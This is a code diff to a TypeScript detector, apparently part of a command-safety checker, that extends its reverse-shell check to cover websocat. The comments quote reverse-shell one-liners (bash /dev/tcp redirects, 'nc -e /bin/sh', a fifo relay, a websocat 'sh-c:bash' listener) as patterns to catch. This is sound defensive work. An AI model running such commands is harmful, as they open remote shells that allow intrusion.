@@ -4,7 +4,7 @@
  * - a bash `/dev/tcp|udp/HOST/PORT` socket opened for a code runner (`bash -i >& /dev/tcp/h/p 0>&1`), kept open
  *   by `exec` for the rest of the string (`exec 5<>/dev/tcp/h/p; sh <&5 >&5`), or read in both directions;
  * - a netcat that runs a program for its peer (`nc -e /bin/sh`, `nc -c bash`, `ncat --exec`, `--sh-exec`);
- * - socat joining a program address (`EXEC:`, `SYSTEM:`) to a socket address;
+ * - socat joining a program address (`EXEC:`, `SYSTEM:`) to a socket address, websocat likewise (`sh-c:`, `exec:`);
  * - a shell that reads its program from stdin beside a raw network client in the same string (the fifo relay
  *   `cat f | sh -i 2>&1 | nc h p > f`);
  * - an interpreter one-liner that opens a socket and runs a shell or rewires descriptors onto it (`socket…dup2`,
@@ -19,7 +19,7 @@ import type { Check } from "./types.ts";
 export const reverseShell: Check = (op) => {
   const commands = commandsOf(op);
   for (const cmd of commands) {
-    const reason = socketRedirect(cmd) ?? netcatExec(cmd) ?? socatExec(cmd);
+    const reason = socketRedirect(cmd) ?? netcatExec(cmd) ?? socatExec(cmd) ?? websocatExec(cmd);
     if (reason !== null) return reason;
   }
   const relay = shellRelay(commands);
@@ -119,6 +119,21 @@ function socatExec(cmd: SimpleCommand): string | null {
   const types = operands(cmd).map((a) => /^[^:,]*/.exec(a)![0].toLowerCase());
   const runs = types.some((t) => PROGRAM_ADDRESSES.has(t));
   const socket = types.some((t) => !LOCAL_ADDRESSES.has(t) && !/^\d+$/.test(t));
+  if (runs && socket) return `${shown(cmd)} joins a program to a socket (reverse or bind shell)`;
+  return null;
+}
+
+/** websocat's program specifiers (`sh-c:bash`, `exec:/bin/sh`, `cmd:…`); any other operand is a socket of some kind. */
+const WEBSOCAT_PROGRAM = /^(?:[\w-]+:)*(?:sh-c|exec|cmd):/i;
+
+/** websocat joining a program to its websocket or socket side (`websocat -b tcp-l:0.0.0.0:4444 sh-c:bash`). */
+function websocatExec(cmd: SimpleCommand): string | null {
+  if (cmd.program !== "websocat") return null;
+  const words = operands(cmd, ["--exec", "-H", "--header", "--protocol", "--origin", "--ping-interval"]);
+  const runs = words.some((w) => WEBSOCAT_PROGRAM.test(w)) || longValues(cmd, "--exec").length > 0;
+  const socket = words.some(
+    (w) => !WEBSOCAT_PROGRAM.test(w) && w !== "-" && !/^(?:stdio|mirror|literal|readfile|writefile):?/i.test(w),
+  );
   if (runs && socket) return `${shown(cmd)} joins a program to a socket (reverse or bind shell)`;
   return null;
 }
